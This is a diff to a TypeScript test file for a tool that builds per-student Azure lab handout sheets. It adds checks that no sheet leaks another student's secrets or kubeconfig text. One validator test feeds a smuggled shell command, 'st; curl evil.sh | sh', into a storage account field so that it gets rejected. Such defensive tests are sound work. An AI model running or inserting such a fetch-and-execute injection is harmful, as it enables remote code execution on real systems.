@@ -10,7 +10,7 @@ import {
   renderSheetMarkdown,
   type HandoutClass,
 } from "../../src/handout/sheet.ts";
-import { fakeOutputs, HUB_SECRET, studentIds, studentMarkers } from "./fixtures.ts";
+import { fakeOutputs, HUB_SECRET, studentIds, studentMarkers, studentSecrets } from "./fixtures.ts";
 
 const CLS: HandoutClass = {
   stack: "class-demo",
@@ -23,7 +23,8 @@ const CLS: HandoutClass = {
 
 const ALICE = {
   resourceGroup: "rg-lab-class-demo-alice",
-  resourceGroupId: "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg-lab-class-demo-alice",
+  resourceGroupId:
+    "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg-lab-class-demo-alice",
   webIpAddress: "20.61.1.2",
   webFqdn: "lab-class-demo-alice.h4sh.westeurope.cloudapp.azure.com",
   ssh: { user: "azlabadmin", firstPort: 50000, lastPort: 50001 },
@@ -39,7 +40,12 @@ describe("readStudentOutputs", () => {
       environment: "class",
       hub: { kubeconfig: "apiVersion: v1 # hub" },
       students: {
-        alice: { ...ALICE, kubeconfig: "apiVersion: v1 # alice", entraObjectId: "0b6e1f7a", vnetCidr: "10.128.4.0/24" },
+        alice: {
+          ...ALICE,
+          kubeconfig: "apiVersion: v1 # alice",
+          entraObjectId: "0b6e1f7a",
+          vnetCidr: "10.128.4.0/24",
+        },
         mallory: { resourceGroup: "rg-mallory" },
       },
     };
@@ -49,7 +55,11 @@ describe("readStudentOutputs", () => {
   it("reports every problem at once, at its key in the outputs", () => {
     const outputs = {
       students: {
-        alice: { ...ALICE, storageAccount: "st; curl evil.sh | sh", ssh: { user: "azlabadmin", firstPort: "50000" } },
+        alice: {
+          ...ALICE,
+          storageAccount: "st; curl evil.sh | sh",
+          ssh: { user: "azlabadmin", firstPort: "50000" },
+        },
         bob: "rg-lab-class-demo-bob",
         hub: { kubeconfig: "x" },
       },
@@ -97,14 +107,24 @@ describe("readStudentOutputs", () => {
       },
     ]);
     expect(readStudentOutputs({ students: { alice: {} } }, ["alice"]).problems).toEqual([
-      { path: "students.alice.resourceGroup", message: "is missing", allowed: "the student's resource group name" },
+      {
+        path: "students.alice.resourceGroup",
+        message: "is missing",
+        allowed: "the student's resource group name",
+      },
     ]);
   });
 });
 
 describe("buildSheet", () => {
   it("fills every field from the deployed outputs", () => {
-    const sheet = buildSheet(CLS, "alice", { displayName: "Alice Smith", upn: "alice@uni.edu" }, ALICE, "outputs");
+    const sheet = buildSheet(
+      CLS,
+      "alice",
+      { displayName: "Alice Smith", upn: "alice@uni.edu" },
+      ALICE,
+      "outputs",
+    );
     expect(sheet).toEqual({
       version: "azlab.handout/v1",
       source: "outputs",
@@ -158,7 +178,13 @@ describe("buildSheet", () => {
   });
 
   it("puts placeholders where only a deployment knows the value, and keeps derived names, offline", () => {
-    const sheet = buildSheet({ ...CLS, webPorts: [8080], storageContainer: "data" }, "alice", {}, ALICE, "plan");
+    const sheet = buildSheet(
+      { ...CLS, webPorts: [8080], storageContainer: "data" },
+      "alice",
+      {},
+      ALICE,
+      "plan",
+    );
     expect(sheet.resourceGroup.portalUrl).toBe(
       "https://portal.azure.com/#resource/subscriptions/<subscription id>/resourceGroups/rg-lab-class-demo-alice/overview",
     );
@@ -198,7 +224,13 @@ describe("buildSheet", () => {
   });
 
   it("renders the sheet as Markdown", () => {
-    const sheet = buildSheet(CLS, "alice", { displayName: "Alice <Smith>", email: "alice@uni.edu" }, ALICE, "outputs");
+    const sheet = buildSheet(
+      CLS,
+      "alice",
+      { displayName: "Alice <Smith>", email: "alice@uni.edu" },
+      ALICE,
+      "outputs",
+    );
     expect(renderSheetMarkdown(sheet)).toMatchSnapshot();
     expect(renderSheetMarkdown(buildSheet(CLS, "alice", {}, ALICE, "plan"))).toMatchSnapshot();
   });
@@ -213,12 +245,15 @@ describe("no sheet carries another student's values or a hub credential", () => 
       const sheet = buildSheet(CLS, id, {}, students[id]!, "outputs");
       const text = `${renderSheetMarkdown(sheet)}\n${renderSheetJson(sheet)}`;
       for (const marker of studentMarkers(id)) expect(text, id).toContain(marker);
+      for (const secret of studentSecrets(id)) expect(text, id).not.toContain(secret);
       for (const other of ids.filter((o) => o !== id)) {
-        for (const marker of studentMarkers(other)) expect(text, `${id} holds ${other}'s ${marker}`).not.toContain(marker);
+        for (const value of [...studentMarkers(other), ...studentSecrets(other)]) {
+          expect(text, `${id} holds ${other}'s ${value}`).not.toContain(value);
+        }
       }
       expect(text).not.toContain(HUB_SECRET);
-      expect(text).not.toContain("KUBECONFIG");
-      expect(text).not.toContain("kubeconfig");
+      // No kubeconfig text of any cluster (the hub's starts with apiVersion).
+      expect(text).not.toContain("apiVersion");
     }
   });
 });
